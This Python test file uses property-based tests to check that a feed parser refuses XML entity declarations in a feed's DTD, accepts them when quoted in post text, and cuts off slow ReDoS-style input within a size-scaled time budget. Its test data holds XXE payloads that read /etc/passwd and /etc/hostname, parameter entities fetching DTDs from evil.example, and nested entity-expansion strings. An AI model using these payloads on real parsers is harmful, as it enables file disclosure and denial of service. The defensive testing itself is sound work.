"""Entity declarations count only in the feed's DTD; the parse budget scales with the feed's size."""

from __future__ import annotations

import html
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from syndicate.feeds import ParseBudget, ParseError, ParserPool, SourceContext, parse_bytes, refuse_entity_tricks
from syndicate.models import RewriteRules

CTX = SourceContext(source="s", feed_url="https://blog.example/feed", site_url="https://blog.example", aliases=(),
                    author=None, rules=RewriteRules())

# What a post about XML security quotes: entity declarations of every kind, whole DOCTYPEs, brackets.
declaration = st.sampled_from([
    '<!ENTITY x SYSTEM "file:///etc/passwd">', "<!ENTITY % p PUBLIC 'x' 'http://evil.example/x.dtd'>",
    '<!ENTITY lol2 "&lol1;&lol1;">', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    "<!entity y system 'http://evil.example/'>", "]>", "<!--", "-->", "<![CDATA[", '"', "'", "[", "<!", "%p;",
])
prose = st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=20)
quoted = st.lists(declaration | prose, min_size=1, max_size=6).map("".join)


def feed(description: str, *, prolog: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel><title>t</title>'
            f"<link>https://blog.example/</link><item><title>On XXE</title><link>https://blog.example/xxe</link>"
            f"<description>{description}</description></item></channel></rss>").encode()


@settings(max_examples=300, deadline=None)
@given(text=quoted, as_cdata=st.booleans())
def test_a_post_quoting_entity_declarations_is_not_refused(text: str, as_cdata: bool) -> None:
    body = "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>" if as_cdata else html.escape(text)
    data = feed(body)
    refuse_entity_tricks(data)  # never raises: the quote is content, not a declaration
    try:
        parse_bytes(data, CTX)
    except ParseError as exc:
        assert "refused" not in str(exc)


@settings(max_examples=200, deadline=None)
@given(before=st.lists(st.sampled_from(["<!-- ] > -->", "<?pi x?>", "\n", '<!ENTITY ok "fine">',
                                        "<!ATTLIST rss version CDATA #IMPLIED>", "<!-- <!ENTITY no SYSTEM 'x'> -->",
                                        "<!ELEMENT rss ANY>", '<!ENTITY q "a]>b">']), max_size=4).map("".join),
       hostile=st.sampled_from(['<!ENTITY x SYSTEM "file:///etc/passwd">', "<!ENTITY x PUBLIC 'a' 'http://e/x'>",
                                '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">',
                                "<!ENTITY b '&a;&a;&a;'>", '<!ENTITY  x\tSYSTEM\n"file:///etc/hostname">']),
       encoding=st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]))
def test_declarations_in_the_internal_subset_are_refused(before: str, hostile: str, encoding: str) -> None:
    text = feed("<![CDATA[fine]]>", prolog=f"<!DOCTYPE rss [{before}{hostile}]>").decode()
    if encoding != "utf-8":
        text = text.replace('encoding="utf-8"', f'encoding="{encoding}"')
    data = text.encode(encoding) if encoding != "utf-16-le" else b"\xff\xfe" + text.encode(encoding)
    with pytest.raises(ParseError, match="refused"):
        refuse_entity_tricks(data)


def test_the_budget_grows_with_the_size() -> None:
    budget = ParseBudget()
    assert budget.seconds_for(0) == budget.base_seconds
    assert budget.seconds_for(10_000_000) >= 200  # a 10 MB honest feed parses in well under that
    assert budget.seconds_for(50_000) < 12  # a ReDoS of 48 KB (33 s) is still stopped


def big_honest_feed(entries: int) -> bytes:
    items = "".join(
        f"<item><title>Post {i}</title><link>https://blog.example/p/{i}</link><guid>https://blog.example/p/{i}</guid>"
        f"<pubDate>Sun, 01 Mar 2026 09:30:00 +0000</pubDate><category>Essays</category>"
        f"<description>&lt;p&gt;Some words of post {i}, with a &lt;a href=&quot;/x&quot;&gt;link&lt;/a&gt;."
        f"&lt;/p&gt;</description></item>" for i in range(entries))
    return (f'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><link>https://blog.example/</link>'
            f"{items}</channel></rss>").encode()


def test_a_big_honest_feed_gets_a_budget_its_size_needs() -> None:
    # 2,500 entries (about 0.7 MB) parse in 2–6 s here: far over a 1 s base, well inside 1 s + size × rate.
    data = big_honest_feed(2_500)
    with ParserPool(workers=1, budget=ParseBudget(base_seconds=1, seconds_per_megabyte=40)) as pool:
        start = time.monotonic()
        parsed = pool.parse(data, CTX)
        assert len(parsed.entries) == 2_500, time.monotonic() - start


def test_a_hostile_feed_is_stopped_at_its_budget_not_at_its_end() -> None:
    redos = feed("x").replace(b"<title>On XXE</title>", b"<author>" + b"a" * 150_000 + b"@" + b"b" * 200 + b"</author>")
    with ParserPool(workers=1, budget=ParseBudget(base_seconds=2, seconds_per_megabyte=10)) as pool:
        pool.parse(feed("warm"), CTX)  # the worker is up: what follows measures the parse alone
        start = time.monotonic()
        with pytest.raises(ParseError, match=r"longer than 3\.5 s"):
            pool.parse(redos, CTX)
        assert time.monotonic() - start < 10


MARKUP = ["<!DOCTYPE rss", "[", "]", ">", "<", "<!", "<!--", "-->", "<?", "?>", '"', "'", "<!ENTITY x SYSTEM 'y'>",
          "%p;", "<rss>", "a", " ", "\x00", "\xff"]


@settings(max_examples=500, deadline=None)
@given(parts=st.lists(st.sampled_from(MARKUP), max_size=30))
def test_finding_the_declarations_always_ends(parts: list[str]) -> None:
    from syndicate.feeds import declarations

    text = "".join(parts)
    found = declarations(text.encode("utf-8", "replace"))
    assert len(found) <= len(text.encode("utf-8", "replace")) + len(parts)
